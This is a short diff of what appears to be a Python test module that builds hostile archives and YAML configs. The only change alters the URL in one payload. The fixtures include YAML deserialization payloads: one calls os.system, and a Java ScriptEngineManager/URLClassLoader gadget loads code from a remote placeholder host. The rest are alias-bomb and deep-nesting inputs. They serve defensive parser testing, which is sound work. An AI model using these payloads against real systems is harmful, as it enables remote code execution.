@@ -413,7 +413,7 @@ def _zips() -> Iterator[Hostile]:
     yield bad("manifest-is-a-folder", lambda: zip_of(Entry(f"{MANIFEST}/".encode(), b"")), "bad_manifest")
     configs = {
         "yaml-object": b"!!python/object/apply:os.system ['touch /tmp/evil']",
-        "yaml-java-object": b'!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://h/"]]]]',
+        "yaml-java-object": b'!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://h"]]]]',
         "yaml-aliases": _ALIASES,
         "yaml-deep": _DEEP,
         "yaml-binary": bytes(range(256)),
